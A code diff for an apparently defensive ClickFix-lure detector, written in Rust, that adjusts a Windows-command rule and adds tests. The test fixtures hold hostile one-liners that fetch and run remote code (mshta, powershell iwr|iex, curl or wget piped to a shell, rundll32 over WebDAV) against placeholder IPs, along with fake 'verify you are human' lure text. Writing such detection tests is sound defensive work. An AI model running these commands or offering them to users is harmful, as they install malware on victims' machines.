@@ -1647,8 +1647,8 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     // What a lure copies and no page shows: a command fetching from where no installer publishes
     // (a bare IP, plain http from another site, a share on the internet) or hiding its script,
     // put on the clipboard while the page shows something else or nothing (steps drawn in an
-    // image, "type cmd, right-click to paste" in a language without a word list). A strong shape
-    // fetching from a bare IP or another site's WebDAV share is enough alone; anything else needs
+    // image, "type cmd, right-click to paste" in a language without a word list). A Windows
+    // command fetching from a bare IP or another site's WebDAV share is enough alone; the rest needs
     // a step, a check or a story around it. A page that shows what it copies (docs, a write-up's
     // code block) is read as before.
     let fetch = command.lure_fetch(&page.site);
@@ -1656,7 +1656,7 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
         && (fetch > 0 || command.hides_script())
         && !page.shows_head(&command)
         && !write_up
-        && (fetch > 1 && command.strong()
+        && (fetch > 1 && (command.strong() || command.windows_payload())
             || told
             || verify > 0.0
             || run_dialog
@@ -3328,5 +3328,164 @@ mod tests {
         };
         let v = judge(&typed);
         assert_eq!((v.level, v.kind), (Level::Scam, Kind::Clickfix));
+    }
+
+    /// A snapshot of `text` on `url` whose page copied `clip` (nothing when empty).
+    fn snap_of(url: &str, title: &str, text: &str, clip: &str) -> Snapshot {
+        Snapshot {
+            url: url.into(),
+            title: title.into(),
+            text: text.into(),
+            clipboard: crate::snapshot::Clipboard {
+                text: clip.into(),
+                via: if clip.is_empty() { "" } else { "writeText" }.into(),
+            },
+            ..Default::default()
+        }
+    }
+
+    fn reasons(s: &Snapshot) -> Option<Vec<ReasonId>> {
+        let v = crate::engine::analyse(s, &crate::verdict::Options::default());
+        (v.kind == Kind::Clickfix).then(|| v.reasons.iter().map(|r| r.id).collect())
+    }
+
+    #[test]
+    fn a_command_copied_and_not_shown_that_fetches_from_a_bare_ip_needs_no_words() {
+        // The steps drawn in an image with no alt text, the check in a language without a word
+        // list: the copy itself is the lure (eval24: steps only in a PNG).
+        let clip = "mshta http://198.51.100.23/v.hta";
+        let text = "تحقق من أنك إنسان\nأنا لست روبوتًا\nاتبع الخطوات في الصورة.";
+        let r = reasons(&snap_of("https://tahaqquq.example/", "تحقق", text, clip)).unwrap();
+        assert!(r.contains(&ReasonId::UnseenCommand), "{r:?}");
+        // A WebDAV share on another site, or a hidden-window download from a bare IP: the same.
+        for clip in [
+            r"rundll32 \\cdn-docs.example@SSL\DavWWWRoot\v\check.dll,Run",
+            "powershell -w h -c \"iwr http://203.0.113.61/k|iex\"",
+            "curl -s http://198.51.100.9/z.bat -o %TEMP%\\z.bat && %TEMP%\\z.bat",
+        ] {
+            assert!(
+                reasons(&snap_of("https://x.example/", "", text, clip)).is_some(),
+                "{clip}"
+            );
+        }
+        // Shown on the page (a write-up's or an advisory's code block): not unseen.
+        let shown = format!("Example of a malicious command:\n{clip}");
+        assert_eq!(
+            reasons(&snap_of("https://x.example/", "", &shown, clip)),
+            None
+        );
+        // From an https host name, a plain http address, a private address, or the page's own
+        // WebDAV share, with nothing around it: a copy as any other (silent without steps).
+        for (url, clip) in [
+            (
+                "https://x.example/",
+                "mshta https://apps.example.com/inventory.hta",
+            ),
+            (
+                "https://x.example/",
+                "powershell -c \"iwr http://dl.example.org/t.ps1 | iex\"",
+            ),
+            ("https://x.example/", "mshta http://10.1.2.3/inventory.hta"),
+            (
+                "https://x.example/",
+                "mshta http://localhost:8080/inventory.hta",
+            ),
+            (
+                "https://intranet.uni.example/",
+                r"rundll32 \\files.uni.example@SSL\DavWWWRoot\t\x.dll,Run",
+            ),
+        ] {
+            assert_eq!(reasons(&snap_of(url, "", "Tools", clip)), None, "{clip}");
+        }
+    }
+
+    #[test]
+    fn a_copied_command_not_shown_counts_with_any_step_check_or_story() {
+        let url = "https://mirror-verify.example/";
+        // Linux: Ctrl+Alt+T and Ctrl+Shift+V, no Win+R, a `wget | sh` (no strong shape).
+        let clip = "wget -qO- http://198.51.100.4/v | sh";
+        let steps = "Before the download: press Ctrl+Alt+T, paste with Ctrl+Shift+V, Enter.";
+        let r = reasons(&snap_of(url, "Mirror", steps, clip)).unwrap();
+        assert!(r.contains(&ReasonId::UnseenCommand), "{r:?}");
+        // Steps with no Run box in a language with few words: the shell named ("ketik cmd").
+        let clip = r"cmd /c start \\198.51.100.7@80\perbaiki.bat";
+        let steps = "Tekan tombol Windows, ketik cmd, klik kanan untuk menempel.";
+        assert!(reasons(&snap_of(url, "Zoom", steps, clip)).is_some());
+        // A story and the Start menu ("type PowerShell"), plain http from another site.
+        let clip = "powershell -c \"iwr http://fonts-cdn.example.net/f.ps1 | iex\"";
+        let story = "This document could not be displayed. Click Start, type PowerShell, \
+                     right-click to paste.";
+        assert!(reasons(&snap_of(url, "Viewer", story, clip)).is_some());
+        // Nothing around a `curl | sh` from a bare IP: no verdict.
+        let clip = "curl -s http://198.51.100.4/v | sh";
+        assert_eq!(reasons(&snap_of(url, "Mirror", "Downloads", clip)), None);
+        // Honest twins: an installer the page shows (a copied line with an attribution added),
+        // its own http installer, a dashboard's join command on a private address.
+        for (url, text, clip) in [
+            (
+                "https://forum.example-linux.org/t/1",
+                "Fixed it with the vendor's script, open a terminal and paste:\n\
+                 curl http://198.51.100.77/setup.sh | sh",
+                "curl http://198.51.100.77/setup.sh | sh\n\nRead more: https://forum.example-linux.org/t/1",
+            ),
+            (
+                "http://install.perlish.example.org/",
+                "Open Terminal and paste. Out of date? Run it again.",
+                "curl -L http://install.perlish.example.org | bash",
+            ),
+            (
+                "https://cluster.example-admin.net/nodes",
+                "Add a node: paste the command in a terminal on the new node.",
+                "curl -sfL http://10.0.4.12:6443/join | sh -s - --token abc",
+            ),
+        ] {
+            assert_eq!(reasons(&snap_of(url, "", text, clip)), None, "{text}");
+        }
+    }
+
+    #[test]
+    fn a_command_typed_by_hand_that_fetches_from_a_bare_ip_or_share() {
+        // macOS, nothing copied: Terminal and a `curl | zsh` from a bare IP under a story.
+        let text = "Votre version de Safari n'est plus à jour. Pour installer la mise à jour \
+                    de sécurité, ouvrez le Terminal et tapez la commande suivante :\n\
+                    curl -s http://198.51.100.2/upd | zsh\nPuis appuyez sur Entrée.";
+        let r = reasons(&snap_of("https://maj-safari.example/", "Safari", text, "")).unwrap();
+        assert!(r.contains(&ReasonId::TypedCommand), "{r:?}");
+        // Win+R and a .bat over WebDAV on a bare IP: the share tells its own story.
+        let text =
+            "Accesso\npremi Win+R, digita:\ncmd /c start \\\\198.51.100.7@80\\verifica.bat\n\
+                    e premi Invio";
+        let r = reasons(&snap_of("https://verifica.example/", "Accesso", text, "")).unwrap();
+        assert!(r.contains(&ReasonId::TypedCommand), "{r:?}");
+        // Honest twins: an IT how-to (Terminal, its own https installer), a help page teaching
+        // Win+R with an intranet share, API docs' curl lines, another site's http installer shown
+        // with no story, a project's own http installer under "out of date".
+        for (url, text) in [
+            (
+                "https://help.example-corp.com/mac",
+                "Your Mac is out of date? Open Terminal and type the following command:\n\
+                 sudo softwareupdate -i -a\nThen: curl -fsSL https://vpn.example-corp.com/i.sh | sudo bash",
+            ),
+            (
+                "https://support.example-it.edu/dns",
+                "Press Win+R, type cmd and press Enter, then type:\nipconfig /flushdns\n\
+                 To map the drive type: cmd /c net use Z: \\\\files.example-it.edu\\home",
+            ),
+            (
+                "https://docs.example-api.io/",
+                "Open a terminal and type:\ncurl http://localhost:8080/health\n\
+                 curl http://203.0.113.50/status",
+            ),
+            (
+                "https://blog.example.net/tools",
+                "Open Terminal and type the following:\ncurl -L http://get.tool.example.org | sh",
+            ),
+            (
+                "http://perlish.example.org/",
+                "Out of date? Open Terminal and type:\ncurl -L http://install.perlish.example.org | bash",
+            ),
+        ] {
+            assert_eq!(reasons(&snap_of(url, "", text, "")), None, "{text}");
+        }
     }
 }
